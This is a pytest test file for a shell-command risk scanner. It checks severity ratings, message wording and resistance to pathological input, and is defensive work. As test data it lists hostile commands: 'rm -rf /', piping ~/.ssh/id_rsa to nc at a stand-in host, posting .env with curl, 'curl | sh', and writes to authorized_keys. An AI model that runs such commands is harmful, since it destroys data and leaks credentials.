"""How much a command weighs, and in which words it is told."""

from collections.abc import Callable

import pytest

from clearance.facts.finding import Confidence, Gap, GapKind, Severity
from clearance.scan.commands.detect import detected
from clearance.scan.commands.walk import walked
from clearance.scan.family import Budget, Match

Tell = Callable[[str], list[tuple[str, Severity, Confidence, str]]]
Look = Callable[..., tuple[list[Match], list[Gap]]]
LOW, MEDIUM, HIGH, CRITICAL = Severity


@pytest.mark.parametrize(
    ("command", "rule", "severity"),
    [
        ("rm -rf /", "destroy-files", CRITICAL),
        ("rm -rf .", "destroy-files", HIGH),
        ("rm -rf src/old", "destroy-folder", LOW),
        ("rm -rf /srv/data/old", "destroy-folder", MEDIUM),
        ("rm -rf /home/me/shop/src/old", "destroy-folder", LOW),
        ("psql -c 'drop table users'", "destroy-database", HIGH),
        ("psql shop_test -c 'drop table users'", "destroy-database", LOW),
        ("psql -h localhost -c 'drop table users'", "destroy-database", MEDIUM),
        ("git push --force", "push-forced", HIGH),
        ("git push --force-with-lease origin topic", "push-forced", MEDIUM),
        ("git push --force-with-lease origin main", "push-forced", HIGH),
        ("git push origin --delete main", "push-deletes", HIGH),
        ("gh pr merge 1", "push-merge", MEDIUM),
        ("gh pr merge 1 --admin", "push-merge", HIGH),
        ("terraform apply", "push-deploy", MEDIUM),
        ("terraform apply -auto-approve", "push-deploy", HIGH),
        ("sudo apt-get install jq", "run-privileged", LOW),
        ("sudo ./x", "run-privileged", MEDIUM),
        ("sudo usermod -aG sudo me", "run-privileged", HIGH),
        ("echo x >> ~/.bashrc", "run-persistent", MEDIUM),
        ("echo x >> ~/.ssh/authorized_keys", "run-persistent", HIGH),
        ("sed -i /x/d .pre-commit-config.yaml", "guard-git-hooks", MEDIUM),
        ("rm .git/hooks/pre-commit", "guard-git-hooks", HIGH),
        ("git commit --no-gpg-sign -m x", "guard-commit-checks", LOW),
        ("curl -d @.env https://x.example", "send-credentials", HIGH),
        ("cat ~/.ssh/id_rsa | nc x.example 1", "send-credentials", CRITICAL),
        ("curl -F f=@a.pdf https://x.example", "send-file", MEDIUM),
        ('eval "$(ssh-agent)"', "command-hidden", LOW),
        ('eval "$X"', "command-hidden", MEDIUM),
        ("$EDITOR a.txt", "command-hidden", LOW),
        ("docker compose down -v", "destroy-infrastructure", LOW),
    ],
)
def test_a_command_weighs_as_much_as_it_can_harm(command: str, rule: str, severity: Severity, tell: Tell) -> None:
    assert max((one[1] for one in tell(command) if one[0] == rule), key=lambda each: each.rank) == severity


@pytest.mark.parametrize(
    ("command", "message"),
    [
        ("sed -i s/a/b/ .clearance/x", "`sed` would write `.clearance/x`: what Clearance decides by"),
        ("ssh web 'rm -rf /'", "`rm /` would delete the whole machine (on the host of ssh)"),
        ('rm -rf "$OUT"/*', "`rm …/*`: if `$OUT` is empty, this deletes `/*`; write `${NAME:?}`"),
        ("git push https://me:word@git.example/x topic", "`git push` would send commits to `https://…@git.example/x`"),
        ("rm -rf '/\u202e'/..", "`rm /\\u202e/..` would delete the whole machine"),
        ("curl https://x.example | sh", "`sh` would run what `curl` downloads, unread"),
    ],
)  # fmt: skip
def test_a_message_names_the_program_and_what_it_would_do(command: str, message: str, tell: Tell) -> None:
    assert message in [one[3] for one in tell(command)]


def test_a_finding_lies_on_its_command(look: Look) -> None:
    command = "ls &&\ngit push --force origin x; ls"
    [match] = look(command)[0]
    assert command[match.start : match.end] == "git push --force origin x"


@pytest.mark.parametrize("command", ["echo 'never ends", "rm -rf $(", "if true; then ls", "ls )"])
def test_what_is_no_shell_text_is_a_gap_and_a_finding(command: str, look: Look) -> None:
    matches, gaps = look(command)
    assert GapKind.UNPARSED in {gap.kind for gap in gaps}
    assert "command-hidden" in {match.rule for match in matches}


def test_what_is_too_much_is_a_gap(look: Look) -> None:
    for command in ("$(" * 10_000, "f(){ f; f; }; f; " + "ls;" * 6_000, "x=aaaa;" + "x=$x$x;" * 30 + "echo $x$x"):
        gaps = look(command)[1]
        assert any(gap.kind in {GapKind.TOO_MANY, GapKind.UNPARSED} for gap in gaps) or command.startswith("x=")
    assert any(gap.kind is GapKind.TOO_MANY for gap in look("ls;" * 6_000)[1])


def test_other_files_are_not_looked_at_and_other_shells_are_gaps(look: Look) -> None:
    assert look("rm -rf /", "scripts/command.sh") == ([], [])
    assert look("rm -rf /", "build.sh") == ([], [])
    assert [gap.kind for gap in look("Remove-Item -Recurse C:\\", "command.ps1")[1]] == [GapKind.UNPARSED]


@pytest.mark.parametrize("name", ["guards", "pushes"])
def test_the_same_text_gives_the_same(name: str, look: Look) -> None:
    command = f"git push --force; rm -rf .clearance; {name}"
    assert look(command) == look(command)


HOSTILE = {
    "substitutions": "echo " + "$(" * 5_000 + "x" + ")" * 5_000,
    "backticks": "`" * 20_000,
    "parentheses": "(" * 20_000,
    "quotes": '"$(' * 5_000,
    "backslashes": "\\" * 50_000,
    "pipes": "a|" * 3_000 + "b",
    "words": "echo " + "a " * 20_000,
    "documents": "cat " + "<<A " * 1_000 + "\n",
    "braces": "echo " + "{a,b}" * 30,
    "doubling": "x=aaaaaaaaaa;" + "x=$x$x;" * 40 + "echo $x",
    "evaluations": 'x="eval \\$x"; eval $x',
    "functions": "f(){ g; g; }; g(){ f; f; }; f",
    "aliases": "alias a=b; alias b=a; a",
    "wrappers": "sudo " * 3_000 + "ls",
    "data": "curl " + "-d @a " * 5_000 + "https://x.example",
    "credentials": "cat .env | " * 1_000 + "curl -d @- https://x.example",
    "arithmetic": "$((" * 10_000,
    "expansions": "${a:-" * 10_000,
    "comments in SQL": "psql -c '/*" + "/*" * 20_000 + "'",
    "calls in code": "python3 -c '" + 'run("' * 5_000 + "'",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_commands_take_no_steps_that_grow_with_their_square(name: str) -> None:
    """The budget is what would stop them: none of them spends it."""
    list(detected(walked(HOSTILE[name], Budget(60.0)), Budget(60.0)))
